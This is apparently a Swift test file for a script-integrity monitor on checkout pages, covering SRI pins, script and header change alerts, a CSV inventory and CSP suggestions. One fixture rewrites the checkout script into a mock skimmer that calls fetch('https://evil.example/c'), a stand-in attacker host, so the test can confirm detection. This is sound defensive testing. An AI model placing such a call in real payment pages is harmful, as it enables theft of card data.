import Foundation
import Testing
import TagwatchTestSupport

/// Script integrity for PCI DSS 6.4.3 and 11.6.1, end to end: the built binary, a loopback
/// checkout page (127.0.0.1 first party, `localhost` the third party), real SQLite.
@Suite(.serialized) struct IntegrityTests {
    let dir: String
    let site: String
    let server: TestServer

    static let widget = "/* quickpay widget v1 */ window.qp = 1;\n"
    static let pinned = "/* pinned library */ window.lib = 2;\n"
    static let wrong = "/* served bytes that do not match the pin */ window.w = 3;\n"
    static let css = "body { color: black }\n"

    init() throws {
        dir = try temporaryDirectory("tw-integrity")
        site = dir + "/site"
        try FileManager.default.createDirectory(atPath: site + "/checkout", withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: site + "/js", withIntermediateDirectories: true)
        server = try TestServer(root: site)
        try Self.widget.write(toFile: site + "/js/widget.js", atomically: true, encoding: .utf8)
        try Self.pinned.write(toFile: site + "/js/pinned.js", atomically: true, encoding: .utf8)
        try Self.wrong.write(toFile: site + "/js/wrong.js", atomically: true, encoding: .utf8)
        try Self.css.write(toFile: site + "/js/site.css", atomically: true, encoding: .utf8)
        try "/* checkout v1 */ pay();\n".write(toFile: site + "/js/pay.js", atomically: true, encoding: .utf8)
        let third = "http://localhost:\(server.port)"
        try """
            <!doctype html><html><head><title>Checkout</title>
            <script src="/js/pay.js"></script>
            <script src="\(third)/js/widget.js"></script>
            <script src="\(third)/js/pinned.js" integrity="sha384-\(Self.sha384(Self.pinned))" crossorigin="anonymous"></script>
            <script src="\(third)/js/wrong.js" integrity="sha384-\(Self.sha384("something else"))" crossorigin="anonymous"></script>
            <link rel="stylesheet" href="\(third)/js/site.css" integrity="sha256-\(Self.sha256(Self.css))">
            </head><body><form action="/pay"></form></body></html>
            """.write(toFile: site + "/checkout/index.html", atomically: true, encoding: .utf8)
        try "Content-Security-Policy: script-src 'self' http://localhost:\(server.port)\nX-Frame-Options: DENY\n"
            .write(toFile: site + "/checkout/index.html.headers", atomically: true, encoding: .utf8)
        try """
            vendors: {}
            categories: {}
            """.write(toFile: dir + "/approved.yaml", atomically: true, encoding: .utf8)
        try """
            targets:
              - url: \(server.url("/checkout/"))
                labels: [payment]
            first_party: [127.0.0.1]
            timeout: 5s
            rules: \(Repo.rules)
            registry: approved.yaml
            state: state.sqlite
            alerts:
              log: alerts.log
              feed: feed.json
            integrity:
              labels: [payment]
            """.write(toFile: dir + "/tagwatch.yaml", atomically: true, encoding: .utf8)
    }

    func cleanUp() {
        server.stop()
        try? FileManager.default.removeItem(atPath: dir)
    }

    /// The digest as `openssl dgst -binary | base64` prints it: the reference the hashes are checked against.
    static func openssl(_ algorithm: String, _ text: String) -> String {
        let r = try? runProgram(["sh", "-c", "printf %s \"$1\" | openssl dgst -\(algorithm) -binary | base64 -w0", "sh", text])
        return (r?.stdout ?? "").trimmingCharacters(in: .whitespacesAndNewlines)
    }

    static func sha384(_ text: String) -> String { openssl("sha384", text) }
    static func sha256(_ text: String) -> String { openssl("sha256", text) }

    func once() throws -> RunResult {
        try runTagwatch(["run", "--once", "--config", dir + "/tagwatch.yaml"])
    }

    func raised(since count: Int) throws -> [Substring] {
        let log = (try? String(contentsOfFile: dir + "/alerts.log", encoding: .utf8)) ?? ""
        return log.split(separator: "\n").dropFirst(count).filter { $0.contains("event=raised") }
    }

    func logLineCount() -> Int {
        ((try? String(contentsOfFile: dir + "/alerts.log", encoding: .utf8)) ?? "").split(separator: "\n").count
    }

    /// A payment page is never fetched conditionally (issue 12): its headers are watched and a
    /// 304 need not repeat them, so it is fetched and parsed whole every cycle; a script that
    /// changes behind it is seen.
    @Test func paymentPagesAreAlwaysScannedWhole() throws {
        defer { cleanUp() }
        for _ in 0..<2 { #expect(try once().status == 0) }
        let count = try runProgram(["curl", "-s", "--noproxy", "*", server.url("/not-modified-count")])
        #expect(count.stdout == "0", "a payment page was fetched conditionally")
        // The script behind the unchanged page changes: seen on the next cycle.
        try "/* checkout v2 */ pay(2);\n".write(toFile: site + "/js/pay.js", atomically: true, encoding: .utf8)
        let before = logLineCount()
        #expect(try once().status == 0)
        #expect(try raised(since: before).contains { $0.contains("kind=script-changed") && $0.contains("pay.js") })
    }

    @Test func sriHashesChangesAndHeaders() throws {
        defer { cleanUp() }
        #expect(!Self.sha384(Self.widget).isEmpty)
        let first = try once()
        #expect(first.status == 0, "stderr: \(first.stderr)")
        let log = try String(contentsOfFile: dir + "/alerts.log", encoding: .utf8)
        // A pin that does not match the bytes served: high.
        #expect(log.contains("kind=sri-mismatch") && log.contains("wrong.js"))
        #expect(!log.split(separator: "\n").contains { $0.contains("kind=sri-mismatch") && ($0.contains("pinned.js") || $0.contains("site.css")) })
        // A third-party script without a pin on a payment page: the exact value to pin, as openssl computes it.
        let missing = try #require(log.split(separator: "\n").first { $0.contains("kind=sri-missing") && $0.contains("widget.js") })
        #expect(missing.contains("sha384-\(Self.sha384(Self.widget))"))
        // The first-party script needs no pin.
        #expect(!log.split(separator: "\n").contains { $0.contains("kind=sri-missing") && $0.contains("pay.js") })

        // The checkout script's bytes change: exactly one script-changed, naming both hashes.
        let before = logLineCount()
        let oldHash = Self.sha384("/* checkout v1 */ pay();\n")
        let newText = "/* checkout v2, skimmer */ pay(); fetch('https://evil.example/c');\n"
        try newText.write(toFile: site + "/js/pay.js", atomically: true, encoding: .utf8)
        #expect(try once().status == 0)
        let changed = try raised(since: before)
        #expect(changed.count == 1, "raised: \(changed)")
        let line = try #require(changed.first)
        #expect(line.contains("kind=script-changed") && line.contains("severity=high"))
        #expect(line.contains("sha384-\(oldHash)") && line.contains("sha384-\(Self.sha384(newText))"))

        // Same bytes again: nothing new is raised.
        let again = logLineCount()
        #expect(try once().status == 0)
        #expect(try raised(since: again).isEmpty)

        // A security header changes on the payment page.
        try "Content-Security-Policy: script-src *\nX-Frame-Options: DENY\n"
            .write(toFile: site + "/checkout/index.html.headers", atomically: true, encoding: .utf8)
        let h = logLineCount()
        #expect(try once().status == 0)
        let header = try raised(since: h)
        // The change itself, and what the new policy means: it no longer stops any script.
        #expect(header.filter { $0.contains("kind=header-changed") }.count == 1, "raised: \(header)")
        #expect(header.contains { $0.contains("kind=header-changed") && $0.contains("script-src *") && $0.contains("severity=high") })
        #expect(header.contains { $0.contains("kind=csp-weak") })
        #expect(header.count == 2)

        // A script that answers 404 is never "changed": its last good hash is kept.
        try FileManager.default.removeItem(atPath: site + "/js/pay.js")
        let gone = logLineCount()
        #expect(try once().status == 0)
        #expect(!(try raised(since: gone)).contains { $0.contains("kind=script-changed") })

        // The 6.4.3 inventory, parsed back by Python's csv module: every column of the pinned script filled.
        let csv = try runTagwatch(["inventory", "--scripts", "--format", "csv", "--label", "payment", "--config", dir + "/tagwatch.yaml"])
        #expect(csv.status == 0, "stderr: \(csv.stderr)")
        try csv.stdout.write(toFile: dir + "/scripts.csv", atomically: true, encoding: .utf8)
        let check = try runProgram(["python3", "-c", """
            import csv, sys
            rows = list(csv.DictReader(open(sys.argv[1], newline='')))
            assert len(rows) == 5, len(rows)
            pinned = [r for r in rows if r['script_url'].endswith('/js/pinned.js')][0]
            empty = [k for k, v in pinned.items() if v == '' and k not in ('vendor_id', 'vendor', 'company', 'category', 'owner', 'justification', 'container_version')]
            assert not empty, empty
            assert pinned['integrity_method'] == 'sri-pinned', pinned
            widget = [r for r in rows if r['script_url'].endswith('/js/widget.js')][0]
            assert widget['integrity_method'] == 'hash-monitored' and widget['sha384'].startswith('sha384-'), widget
            assert [r for r in rows if r['script_url'].endswith('/js/wrong.js')][0]['integrity_method'] == 'sri-mismatch'
            pay = [r for r in rows if r['script_url'].endswith('/js/pay.js')][0]
            assert pay['failed_cycles'] == '1' and pay['sha384'] == 'sha384-' + sys.argv[2], pay
            """, dir + "/scripts.csv", Self.sha384(newText)])
        #expect(check.status == 0, "\(check.stderr)\n\(csv.stdout)")
    }


    @Test func cspSuggestAllowsTheApprovedAndNamesTheRest() throws {
        defer { cleanUp() }
        var config = try String(contentsOfFile: Repo.path("examples/tagwatch.yaml"), encoding: .utf8)
        config = config.replacingOccurrences(of: "site/", with: Repo.path("examples/site") + "/")
            .replacingOccurrences(of: "../rules", with: Repo.rules)
            .replacingOccurrences(of: "../.build-demo", with: dir)
        try config.write(toFile: dir + "/demo.yaml", atomically: true, encoding: .utf8)
        _ = try runTagwatch(["run", "--once", "--config", dir + "/demo.yaml"])
        let payment = try runTagwatch(["csp", "suggest", "--config", dir + "/demo.yaml", "--label", "payment"])
        #expect(payment.status == 0, "stderr: \(payment.stderr)")
        let header = try #require(payment.stdout.split(separator: "\n").first { $0.hasPrefix("Content-Security-Policy: ") })
        // Stripe is required on the payment page; Hotjar is out of its scope there, the widget host is no vendor's.
        #expect(header.contains("script-src 'self' https://js.stripe.com"))
        #expect(!header.contains("hotjar") && !header.contains("quickcart"))
        #expect(payment.stdout.contains("# left out: static.hotjar.com (hotjar: not approved on"))
        #expect(payment.stdout.contains("# left out: cdn.quickcart-widgets.net (no vendor claims it)"))
        let all = try runTagwatch(["csp", "suggest", "--config", dir + "/demo.yaml"])
        #expect(all.stdout.contains("https://www.googletagmanager.com"))
        // Denied (Floodlight inside the container) and unapproved (TikTok) vendors stay out.
        #expect(all.stdout.contains("# left out: ad.doubleclick.net (google-campaign-manager-360: denied)"))
        #expect(all.stdout.contains("analytics.tiktok.com (tiktok-pixel: not in the registry)"))
        let none = try runTagwatch(["csp", "suggest", "--config", dir + "/demo.yaml", "--label", "nosuchlabel"])
        #expect(none.status == 2)
    }
}
